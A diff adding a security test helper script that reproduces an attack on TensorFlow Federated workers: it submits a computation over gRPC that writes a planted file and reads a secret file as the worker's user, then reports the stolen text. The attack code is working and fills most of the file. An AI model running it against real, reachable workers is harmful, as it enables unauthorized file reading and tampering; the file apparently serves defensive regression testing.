@@ -1,0 +1,101 @@
+"""What issue 27's attacker did, as a script (tests/test_worker_security.py): connect to a TFF worker's
+executor service and submit a `tff.tensorflow.computation` that writes one file and reads another,
+which the worker does as its own user.
+
+    python tests/worker_attack.py [--as-other-user] SECRET PLANTED ATTEMPT...
+
+An ATTEMPT is a target, `host:port` or `unix:PATH`, in plain gRPC; or a JSON object {"target", "ca",
+"cert", "key"} for TLS that trusts `ca` and presents `cert` and `key` (without them: no certificate).
+With `--as-other-user` the script, once TensorFlow is loaded and the computation built, becomes
+`nobody` (tests/other_user.py) before it connects. It prints one JSON object per attempt: {"target",
+"stage" (how far it got: "connect", "get_executor", "create_value", "compute"), "read" (the secret's
+text when the attack worked), "error"}. Every call has a deadline.
+"""
+
+from __future__ import annotations
+
+import json
+import sys
+
+CONNECT_SECONDS = 15.0
+CALL_SECONDS = 60.0
+
+
+def build_attack(secret: str, planted: str):
+    import tensorflow as tf
+    import tensorflow_federated as tff
+
+    @tff.tensorflow.computation
+    def steal():
+        written = tf.io.write_file(planted, "written by the attacker")
+        with tf.control_dependencies([written]):
+            return tf.io.read_file(secret)
+
+    return steal
+
+
+def attack(target: str, steal, credentials=None) -> dict:
+    import grpc
+    import tensorflow_federated as tff
+    from tensorflow_federated.proto.v0 import computation_pb2, executor_pb2, executor_pb2_grpc
+
+    result = {"target": target, "stage": "connect", "read": None, "error": None}
+    channel = grpc.secure_channel(target, credentials) if credentials is not None else grpc.insecure_channel(target)
+    try:
+        stub = executor_pb2_grpc.ExecutorGroupStub(channel)  # TFF's service, with a deadline on each call
+        try:
+            grpc.channel_ready_future(channel).result(timeout=CONNECT_SECONDS)
+        except grpc.FutureTimeoutError:
+            result["error"] = "the connection never became ready"
+        result["stage"] = "get_executor"
+        clients = executor_pb2.Cardinality(placement=computation_pb2.Placement(uri=tff.CLIENTS.uri), cardinality=1)
+        executor = stub.GetExecutor(executor_pb2.GetExecutorRequest(cardinalities=[clients]),
+                                    timeout=CALL_SECONDS).executor
+        result["stage"] = "create_value"
+        value, _ = tff.framework.serialize_value(steal, steal.type_signature)
+        function = stub.CreateValue(executor_pb2.CreateValueRequest(executor=executor, value=value),
+                                    timeout=CALL_SECONDS).value_ref
+        call = stub.CreateCall(executor_pb2.CreateCallRequest(executor=executor, function_ref=function),
+                               timeout=CALL_SECONDS).value_ref
+        result["stage"] = "compute"
+        answer = stub.Compute(executor_pb2.ComputeRequest(executor=executor, value_ref=call), timeout=CALL_SECONDS)
+        data, _ = tff.framework.deserialize_value(answer.value, steal.type_signature.result)
+        result["read"] = data.decode() if isinstance(data, bytes) else str(data)
+        result["error"] = None
+    except grpc.RpcError as error:
+        result["error"] = f"{error.code().name}: {error.details()}"
+    finally:
+        channel.close()
+    return result
+
+
+def credentials_for(attempt: dict):
+    import grpc
+
+    if "ca" not in attempt:
+        return None
+    read = {name: open(attempt[name], "rb").read() if attempt.get(name) else None for name in ("ca", "cert", "key")}
+    return grpc.ssl_channel_credentials(root_certificates=read["ca"], private_key=read["key"],
+                                        certificate_chain=read["cert"])
+
+
+def main(argv: list[str]) -> int:
+    other_user = argv[:1] == ["--as-other-user"]
+    secret, planted, *attempts = argv[1:] if other_user else argv
+    attempts = [json.loads(a) if a.startswith("{") else {"target": a} for a in attempts]
+    steal = build_attack(secret, planted)
+    credentials = [credentials_for(attempt) for attempt in attempts]  # read before giving up the files
+    import grpc  # noqa: F401 - everything loaded before: the other user may not be able to read it
+    from tensorflow_federated.proto.v0 import computation_pb2, executor_pb2, executor_pb2_grpc  # noqa: F401
+
+    if other_user:
+        from other_user import become_other_user
+
+        become_other_user()
+    for attempt, credential in zip(attempts, credentials):
+        print(json.dumps(attack(attempt["target"], steal, credential)), flush=True)
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main(sys.argv[1:]))
